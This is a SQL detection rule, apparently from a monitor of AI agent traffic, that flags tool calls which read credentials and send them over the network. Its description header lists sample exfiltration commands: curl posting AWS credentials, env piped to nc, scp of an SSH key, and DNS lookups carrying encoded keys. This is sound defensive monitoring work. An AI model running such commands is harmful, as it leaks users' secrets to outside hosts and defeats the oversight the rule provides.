-- id: ac1-credential-exfil
-- rev: 1
-- title: Tool call reads credentials and sends them off the host
-- severity: critical
-- attack_class: AC-1
-- attack: [T1552.001, T1048, T1041, T1567]
-- false_positives:
--   - The user asked the agent to upload a credential somewhere on purpose (e.g. to a secrets manager's
--     API); the evidence names the read and the destination.
--   - A secret variable in the URL or body of a request to an API that takes keys that way
--     (`?key=$MAPS_API_KEY`) whose host is not allowlisted (high; add the API's host to the allowlist).
-- description: >
--   One response tool call both reads a secret (a credential store, a `.env` file, the environment or a
--   secret variable) and sends data over the network: `curl -d @~/.aws/credentials`, `cat … | curl -T -`,
--   `env | nc host port`, `scp ~/.ssh/id_rsa host:`, a DNS lookup of `$(cat key | base64)`.host, or
--   code that opens the file and posts it: critical. A secret environment variable placed in a request's
--   URL or body (`curl "https://x/?k=$OPENAI_API_KEY"`) to a host outside the allowlist: high (in an
--   Authorization header it is how APIs authenticate and is not counted). Credential read plus upload is
--   an execution indicator: the secret leaves the moment the agent runs the call.
SELECT coalesce(t.ts, e.ts) AS ts, coalesce(t.host_id, e.host_id) AS host_id, e.pid, e.flow_uid, t.exchange_id,
       ec.router,
       t.exchange_id || ':' || t.idx AS dedup,
       CASE WHEN bool_or(i.kind = 'credential_exfil') THEN 'critical' ELSE 'high' END AS severity,
       json_object('tool_call_idx', t.idx, 'tool', t.name, 'detail', any_value(i.detail), 'kinds', list(DISTINCT i.kind),
                   'hosts', list(DISTINCT i.host) FILTER (WHERE i.host IS NOT NULL),
                   'reads', (SELECT list(DISTINCT r.kind || ' ' || r.detail) FROM tool_call_indicators r
                             WHERE r.exchange_id = t.exchange_id AND r.idx = t.idx
                               AND r.kind IN ('credential_read', 'env_file_read', 'env_dump'))) AS evidence,
       format('credential exfiltration in tool call {} of exchange {} from {} (to {})', t.name, t.exchange_id,
              coalesce(ec.router, e.host), coalesce(any_value(i.host), 'an unnamed host')) AS summary
FROM new_tool_calls t
JOIN tool_call_indicators i
  ON i.exchange_id = t.exchange_id AND i.idx = t.idx AND i.direction = coalesce(t.direction, 'response')
LEFT JOIN run_llm_exchanges e ON e.exchange_id = t.exchange_id
LEFT JOIN run_exchange_classes ec ON ec.exchange_id = t.exchange_id
WHERE coalesce(t.direction, 'response') = 'response'
  AND ((i.kind = 'credential_exfil' AND coalesce(i.context, 'command') = 'command') OR (i.kind = 'secret_sent' AND i.execution))
GROUP BY t.ts, e.ts, t.host_id, e.host_id, e.pid, e.flow_uid, t.exchange_id, t.idx, t.name, ec.router, e.host
